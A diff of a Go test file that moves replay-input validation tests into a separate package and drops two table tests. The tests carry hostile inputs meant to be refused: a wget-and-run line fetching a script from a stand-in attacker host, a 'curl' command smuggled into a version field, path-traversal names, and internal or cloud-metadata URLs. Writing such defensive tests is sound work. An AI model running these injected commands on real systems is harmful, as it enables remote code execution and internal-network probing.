@@ -9,8 +9,8 @@ import (
 	"testing"
 
 	"github.com/eclipse-atesor/atesor-go"
-	"github.com/eclipse-atesor/atesor-go/gotool"
 	"github.com/eclipse-atesor/atesor-go/recipe"
+	"github.com/eclipse-atesor/atesor-go/replay"
 	"github.com/eclipse-atesor/atesor-go/sandbox/sandboxtest"
 )
 
@@ -117,73 +117,13 @@ func TestReplayRefusesHostSourceFromReport(t *testing.T) {
 		t.Fatalf("port: %s %s", res.Status, res.Reason)
 	}
 	recipe := filepath.Join(h.out, "vecsum_recipe.md")
-	_, err := ReadReplayInput(recipe)
-	if !errors.Is(err, ErrHostSource) || !strings.Contains(err.Error(), "--source") {
+	_, err := replay.ReadInput(recipe)
+	if !errors.Is(err, replay.ErrHostSource) || !strings.Contains(err.Error(), "--source") {
 		t.Fatalf("a report naming a host directory was accepted or not explained: %v", err)
 	}
-	in, err := ReadReplayInputFrom(recipe, h.src)
+	in, err := replay.ReadInputFrom(recipe, h.src)
 	if err != nil || in.Source != h.src {
 		t.Fatalf("the source the user names: %+v, %v", in.Source, err)
-	}
-}
-
-func TestReportedSourceOK(t *testing.T) {
-	dir := t.TempDir()
-	sha, commit := strings.Repeat("a", 64), strings.Repeat("b", 40)
-	for _, tc := range []struct {
-		src, sha, commit string
-		ok               bool
-	}{
-		{dir, "", "", false},
-		{"/etc", "", "", false},
-		{filepath.Join(dir, "x.tar.gz"), sha, "", false},
-		{"file:///srv/git/private", "", commit, false},
-		{"file:///srv/x.tar.gz", sha, "", false},
-		{"http://127.0.0.1:8080/x.tar.gz", sha, "", false},
-		{"https://localhost/x.tar.gz", sha, "", false},
-		{"https://10.1.2.3/x.tar.gz", sha, "", false},
-		{"https://[::1]/x.tar.gz", sha, "", false},
-		{"https://169.254.169.254/latest/x.tar.gz", sha, "", false},
-		{"https://downloads.test/x-1.0.tar.gz", "", "", false},
-		{"https://downloads.test/x-1.0.tar.gz", sha, "", true},
-		{"https://git.test/x/y.git", "", "", false},
-		{"https://git.test/x/y.git", "", commit, true},
-		{"git@git.test:x/y.git", "", commit, true},
-	} {
-		err := reportedSourceOK(tc.src, tc.sha, tc.commit)
-		if (err == nil) != tc.ok {
-			t.Errorf("reportedSourceOK(%q, sha %t, commit %t) = %v, want ok %t", tc.src, tc.sha != "", tc.commit != "", err, tc.ok)
-		}
-		if err != nil && !errors.Is(err, ErrHostSource) {
-			t.Errorf("%q: %v is not ErrHostSource", tc.src, err)
-		}
-	}
-}
-
-// TestReplayRefusesForeignNames: a report whose package name leaves its folder, or whose
-// recorded Go toolchain is not a Go release, is refused before anything runs; a recorded
-// GOROOT is recomputed.
-func TestReplayRefusesForeignNames(t *testing.T) {
-	for _, tc := range []struct {
-		name string
-		in   ReplayInput
-		ok   bool
-	}{
-		{"dot-dot package", ReplayInput{Package: "../../etc"}, false},
-		{"newline package", ReplayInput{Package: "x\ny"}, false},
-		{"bad go version", ReplayInput{Package: "x", GoToolchain: &atesor.GoToolchain{Version: "go1.22; curl evil", Arch: "amd64"}}, false},
-		{"bad go arch", ReplayInput{Package: "x", GoToolchain: &atesor.GoToolchain{Version: "go1.27.3", Arch: "../x"}}, false},
-		{"moved GOROOT", ReplayInput{Package: "x", GoToolchain: &atesor.GoToolchain{Version: "go1.27.3", Arch: "amd64", GOROOT: "/usr/bin"}}, true},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			err := checkReplayInput(&tc.in)
-			if (err == nil) != tc.ok {
-				t.Fatalf("checkReplayInput = %v, want ok %t", err, tc.ok)
-			}
-			if tc.ok && tc.in.GoToolchain.GOROOT != gotool.Root("go1.27.3") {
-				t.Errorf("GOROOT = %q", tc.in.GoToolchain.GOROOT)
-			}
-		})
 	}
 }
 
@@ -195,13 +135,13 @@ func TestReplayValidatesEveryLine(t *testing.T) {
 	if res := h.run(); !res.Verified {
 		t.Fatalf("port: %s %s", res.Status, res.Reason)
 	}
-	res, sb, err := replayWith(t, h, "riscv64-glibc-hello", func(in *ReplayInput) {
+	res, sb, err := replayWith(t, h, "riscv64-glibc-hello", func(in *replay.Input) {
 		in.Recipe = strings.Replace(in.Recipe, "```atesor-commands\n", "```atesor-commands\nwget -O x.sh https://attacker.test/x.sh\nsh x.sh\n", 1)
 	})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if res.Verdict != ReplayFailed || !strings.Contains(res.Failure, "nothing ran") {
+	if res.Verdict != replay.Failed || !strings.Contains(res.Failure, "nothing ran") {
 		t.Fatalf("replay = %+v", res)
 	}
 	if n := len(sb.Commands()); n != 0 {
